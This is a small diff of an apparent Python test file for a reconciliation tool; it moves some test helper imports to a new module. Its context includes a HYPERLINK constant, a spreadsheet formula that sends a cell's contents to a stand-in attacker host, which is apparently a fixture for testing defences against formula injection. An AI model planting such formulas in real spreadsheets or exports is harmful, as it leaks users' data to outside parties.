@@ -29,7 +29,7 @@ from recon.demo import DemoResult, run_demo
 from recon.history import History
 from recon.money import amount_text
 from tests.conftest import MakeSandbox, default_scenario
-from tests.test_report import DAY, credentials, recon_run, run_config
+from tests.helpers import DAY, credentials, recon_run, run_config
 
 TODAY = datetime.now(UTC).date()
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
